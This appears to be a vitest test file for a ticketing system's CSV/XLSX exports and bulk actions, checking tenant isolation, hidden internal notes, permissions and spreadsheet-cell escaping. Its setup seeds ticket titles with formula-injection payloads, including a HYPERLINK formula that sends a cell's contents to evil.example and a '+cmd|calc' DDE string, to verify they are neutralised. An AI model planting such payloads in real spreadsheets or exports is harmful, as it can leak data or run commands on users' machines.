// Ticket exports (CSV, XLSX) and bulk actions: exactly the caller's filtered list, nothing of
// another requester or company, no internal notes, no formulas; bulk goes through the services.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { UserActor } from '../../src/server/platform/actor.js';
import { resolveSession } from '../../src/server/platform/auth.js';
import { csvStream, exportBatches, safeCell } from '../../src/server/modules/tickets/tickets-export.service.js';
import { createCompany, createUser, type TestCompany, type TestUser } from '../factories.js';
import { type Harness, harness } from '../harness.js';

/** A small CSV reader (quotes, doubled quotes, commas and newlines in cells). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const s = text.replace(/^\ufeff/, '');
  for (let i = 0; i < s.length; i++) {
    const ch = s[i];
    if (quoted) {
      if (ch === '"' && s[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && s[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

async function allListed(user: TestUser, query: string): Promise<number[]> {
  const out: number[] = [];
  let cursor: string | null = null;
  do {
    const res: { status: number; body: { items: Array<{ number: number }>; nextCursor: string | null } } = await user.client.get(
      `/api/v1/tickets?limit=200${query ? `&${query}` : ''}${cursor ? `&cursor=${cursor}` : ''}`,
    );
    expect(res.status).toBe(200);
    out.push(...res.body.items.map((i) => i.number));
    cursor = res.body.nextCursor;
  } while (cursor);
  return out;
}

describe('ticket exports and bulk actions', () => {
  let h: Harness;
  let acme: TestCompany;
  let other: TestCompany;
  let alice: TestUser;
  let bob: TestUser;
  let tech: TestUser;
  let manager: TestUser;
  const open = async (u: TestUser, body: Record<string, unknown>) => {
    const res = await u.client.post('/api/v1/tickets', { kind: 'incident', priority: 'medium', ...body });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    return res.body.ticket as { number: number; version: number };
  };

  beforeAll(async () => {
    h = await harness();
    acme = await createCompany(h);
    other = await createCompany(h);
    alice = await createUser(h, acme, { role: 'Requester', department: 'Operations' });
    bob = await createUser(h, acme, { role: 'Requester', department: 'Finance' });
    tech = await createUser(h, acme, { role: 'Technician', department: 'IT' });
    manager = await createUser(h, acme, { role: 'Manager', department: 'Operations' });
    const a1 = await open(alice, { title: 'Alice printer', priority: 'high' });
    await open(alice, { title: '=HYPERLINK("http://evil.example/?x="&A1,"click")' });
    await open(alice, { title: '+cmd|calc', priority: 'low' });
    await open(alice, { title: '-2+3' });
    await open(alice, { title: '@SUM(A1:A9)' });
    await open(bob, { title: 'Bob secret salary sheet', priority: 'high' });
    await open(manager, { title: 'Manager task, urgent', priority: 'urgent' });
    await manager.client.post(`/api/v1/tickets/${a1.number}/comments`, { body: 'zebra-internal-note', internal: true });
    await open(other.admin, { title: 'Other company ticket' });
    for (let i = 0; i < 12; i++) await open(manager, { title: `Bulk filler ${i}`, kind: 'work_order', priority: 'low' });
  });
  afterAll(() => h.close());

  it('CSV: a requester exports exactly their own visible tickets, with the header, safe cells and a file name', async () => {
    const res = await alice.client.get('/api/v1/tickets/export.csv');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="tickets-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parseCsv(res.raw.body);
    expect(rows[0]).toEqual([
      'number',
      'kind',
      'title',
      'status',
      'priority',
      'category',
      'requester',
      'assignee',
      'team',
      'department',
      'project',
      'due',
      'created',
      'updated',
    ]);
    const numbers = rows.slice(1).map((r) => Number(r[0]));
    expect(numbers).toEqual(await allListed(alice, ''));
    expect(numbers).toHaveLength(5);
    expect(res.raw.body).not.toContain('Bob secret');
    expect(res.raw.body).not.toContain('Other company');
    expect(res.raw.body).not.toContain('zebra');
    const titles = rows.slice(1).map((r) => r[2]);
    expect(titles).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(titles).toContain("'+cmd|calc");
    expect(titles).toContain("'-2+3");
    expect(titles).toContain("'@SUM(A1:A9)");
    expect(titles.every((t) => !/^[=+\-@]/.test(t))).toBe(true);
    expect(safeCell('\tx=1')).toBe("'\tx=1");
    expect(safeCell('plain')).toBe('plain');
  });

  it("CSV: the same filters as the list (all pages), and the full-text search does not read others' internal notes", async () => {
    for (const query of ['', 'priority=high', 'status=open&kind=work_order', 'q=filler', 'sort=priority', 'assigneeId=none&sort=oldest']) {
      const res = await manager.client.get(`/api/v1/tickets/export.csv${query ? `?${query}` : ''}`);
      expect(res.status, query).toBe(200);
      const numbers = parseCsv(res.raw.body)
        .slice(1)
        .map((r) => Number(r[0]));
      expect(numbers, query).toEqual(await allListed(manager, query));
    }
    expect(parseCsv((await manager.client.get('/api/v1/tickets/export.csv?q=zebra')).raw.body)).toHaveLength(2);
    expect(parseCsv((await alice.client.get('/api/v1/tickets/export.csv?q=zebra')).raw.body)).toHaveLength(1);
    expect((await manager.client.get('/api/v1/tickets/export.csv?status=nope')).status).toBe(400);
    expect((await other.admin.client.get('/api/v1/tickets/export.csv')).raw.body).not.toContain('Alice');
  });

  it('XLSX opens with exceljs and has the same rows', async () => {
    const res = await manager.client.get('/api/v1/tickets/export.xlsx?priority=high,urgent');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toMatch(/filename="tickets-.*\.xlsx"/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.raw.rawPayload as never);
    const sheet = wb.getWorksheet('Tickets')!;
    const values = sheet.getSheetValues().filter(Boolean) as unknown[][];
    expect(values[0].slice(1)).toEqual([
      'number',
      'kind',
      'title',
      'status',
      'priority',
      'category',
      'requester',
      'assignee',
      'team',
      'department',
      'project',
      'due',
      'created',
      'updated',
    ]);
    const numbers = values.slice(1).map((r) => r[1]);
    expect(numbers).toEqual(await allListed(manager, 'priority=high,urgent'));
    expect(values.slice(1).map((r) => r[3])).toContain('Bob secret salary sheet');
    expect(values[1][13]).toBeInstanceOf(Date);
    const mine = await alice.client.get('/api/v1/tickets/export.xlsx');
    const wb2 = new ExcelJS.Workbook();
    await wb2.xlsx.load(mine.raw.rawPayload as never);
    expect(wb2.getWorksheet('Tickets')!.rowCount).toBe(6);
  });

  it('the static export paths do not collide with /tickets/:number', async () => {
    const t = await open(alice, { title: 'Route check' });
    expect((await alice.client.get(`/api/v1/tickets/${t.number}`)).body.ticket.title).toBe('Route check');
    expect((await alice.client.get('/api/v1/tickets/export.csv')).headers['content-type']).toMatch(/text\/csv/);
    const pdf = await alice.client.get('/api/v1/tickets/export.pdf');
    expect([400, 404]).toContain(pdf.status);
    expect((await h.client().get('/api/v1/tickets/export.csv')).status).toBe(401);
    const spec = await manager.client.get('/api/v1/openapi.json');
    expect(Object.keys(spec.body.paths)).toEqual(
      expect.arrayContaining(['/api/v1/tickets/export.csv', '/api/v1/tickets/export.xlsx', '/api/v1/tickets/bulk']),
    );
  });

  it('stops at the row cap in keyset batches and says so at the end', async () => {
    const token = manager.client.cookie!.split('=')[1];
    const actor = (await resolveSession(h.deps.database, token)) as UserActor;
    const ctx = { deps: h.deps, actor, info: { ip: '127.0.0.1', userAgent: null } };
    const full = await allListed(manager, 'sort=newest');
    const batches = await exportBatches(ctx, { sort: 'newest' }, { batchSize: 2, maxRows: 5 });
    const chunks: string[] = [];
    for await (const c of csvStream(batches)) chunks.push(String(c));
    const rows = parseCsv(chunks.join(''));
    expect(rows.slice(1, 6).map((r) => Number(r[0]))).toEqual(full.slice(0, 5));
    expect(rows).toHaveLength(7);
    expect(rows[6][0]).toMatch(/^# Export truncated: only the first 5 tickets/);
    // Exactly at the cap with nothing left: no note.
    const few = await exportBatches(ctx, { sort: 'newest', priority: ['urgent'] }, { batchSize: 2, maxRows: 1 });
    const text: string[] = [];
    for await (const c of csvStream(few)) text.push(String(c));
    expect(parseCsv(text.join(''))).toHaveLength(2);
  });

  it('bulk: mixed results per ticket, through the same rules as the single routes', async () => {
    const mine = await open(manager, { title: 'Bulk A' });
    const second = await open(manager, { title: 'Bulk B' });
    const closed = await open(manager, { title: 'Bulk closed' });
    await manager.client.post(`/api/v1/tickets/${closed.number}/status`, { status: 'closed' });
    const foreign = await open(other.admin, { title: 'Other bulk' });
    const assign = await manager.client.post('/api/v1/tickets/bulk', {
      action: 'assign',
      numbers: [mine.number, second.number, 999_999, mine.number],
      assigneeId: String(tech.id),
    });
    expect(assign.status).toBe(200);
    expect(assign.body.results).toEqual([
      { number: mine.number, ok: true },
      { number: second.number, ok: true },
      { number: 999_999, ok: false, error: { code: 'not_found', message: expect.any(String) } },
    ]);
    // Numbers are per company: nothing of the other company moved.
    const { rows } = await h.deps.database.query<{ n: number }>(
      'select count(*)::int as n from tickets where tenant_id = $1 and assignee_id is not null',
      [other.id],
    );
    expect(rows[0].n).toBe(0);
    expect(foreign.number).toBeGreaterThan(0);
    const history = await manager.client.get(`/api/v1/tickets/${mine.number}/history`);
    expect(
      history.body.items.some((i: { event: string; after: unknown }) => i.event === 'assigned' && String(i.after) === String(tech.id)),
    ).toBe(true);
    const inbox = await tech.client.get('/api/v1/notifications');
    expect(
      inbox.body.items.filter((n: { event: string }) => n.event === 'ticket.assigned').map((n: { ticketNumber: number }) => n.ticketNumber),
    ).toEqual(expect.arrayContaining([mine.number, second.number]));

    const status = await tech.client.post('/api/v1/tickets/bulk', {
      action: 'status',
      status: 'in_progress',
      numbers: [mine.number, closed.number, second.number],
    });
    expect(status.status).toBe(200);
    expect(status.body.results[0]).toEqual({ number: mine.number, ok: true });
    // The technician does not see the closed, unassigned ticket: not_found, as on the single route.
    expect(status.body.results[1]).toMatchObject({ number: closed.number, ok: false, error: { code: 'not_found' } });
    expect(status.body).toMatchObject({ succeeded: 2, failed: 1 });
    const bad = await manager.client.post('/api/v1/tickets/bulk', { action: 'status', status: 'pending_approval', numbers: [mine.number] });
    expect(bad.body.results).toEqual([
      { number: mine.number, ok: false, error: { code: 'invalid_transition', message: expect.any(String) } },
    ]);
    expect((await manager.client.get(`/api/v1/tickets/${mine.number}`)).body.ticket.status).toBe('in_progress');

    // A requester: her own ticket is not hers to move from open; Bob's is invisible; assigning needs tickets.assign.
    const aliceList = await allListed(alice, '');
    const r = await alice.client.post('/api/v1/tickets/bulk', {
      action: 'status',
      status: 'closed',
      numbers: [aliceList[0], second.number],
    });
    expect(r.body.results.map((x: { error?: { code: string } }) => x.error?.code)).toEqual(['forbidden', 'not_found']);
    const refused = await alice.client.post('/api/v1/tickets/bulk', {
      action: 'assign',
      numbers: [aliceList[0]],
      assigneeId: String(tech.id),
    });
    expect(refused.status).toBe(403);
    expect(refused.body.error.details.permission).toBe('tickets.assign');
  });

  it('bulk: validates its body and caps the number of tickets', async () => {
    const many = Array.from({ length: 201 }, (_, i) => i + 1);
    expect((await manager.client.post('/api/v1/tickets/bulk', { action: 'status', status: 'open', numbers: many })).status).toBe(400);
    expect((await manager.client.post('/api/v1/tickets/bulk', { action: 'status', status: 'open', numbers: [] })).status).toBe(400);
    expect((await manager.client.post('/api/v1/tickets/bulk', { action: 'assign', numbers: [1] })).status).toBe(400);
    expect((await manager.client.post('/api/v1/tickets/bulk', { action: 'delete', numbers: [1] })).status).toBe(400);
    const csrfless = manager.client;
    csrfless.sendCsrf = false;
    expect((await csrfless.post('/api/v1/tickets/bulk', { action: 'status', status: 'open', numbers: [1] })).status).toBe(403);
    csrfless.sendCsrf = true;
  });
});
